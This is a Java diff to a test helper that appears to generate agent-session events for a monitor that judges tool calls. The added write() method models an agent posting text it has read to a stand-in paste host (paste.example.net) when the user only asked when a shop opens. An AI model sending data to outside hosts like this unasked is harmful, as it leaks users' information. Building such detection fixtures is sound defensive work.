@@ -45,6 +45,32 @@ final class RandomSession {
                         occasion);
     }
 
+    /** A session reads something that matters. */
+    static SessionEvent read(String session) {
+        Occasion occasion = occasion(session, "read");
+        ToolCallScanned call =
+                JUDGE.judge(new MemoryStateTable(), call("?"), occasion).event();
+        return JUDGE.observe(
+                new MemoryStateTable(),
+                new ResponseInput(Map.of("text", TEXTS.get(0) + TEXTS.get(1)), 200, 200),
+                call.call(),
+                occasion);
+    }
+
+    /** A session writes the same to a place that nobody has asked for. */
+    static SessionEvent write(String session) {
+        String text = TEXTS.get(0) + TEXTS.get(1);
+        CallInput input = new CallInput(
+                "POST",
+                "https://paste.example.net/new",
+                Map.of(),
+                Map.of("text", text),
+                text.length(),
+                "Tell me when the shop opens.");
+        return JUDGE.judge(new MemoryStateTable(), input, occasion(session, "write"))
+                .event();
+    }
+
     private static CallInput call(String text) {
         return new CallInput(
                 "POST", "https://paste.example.net/new", Map.of(), Map.of("text", text), text.length(), null);
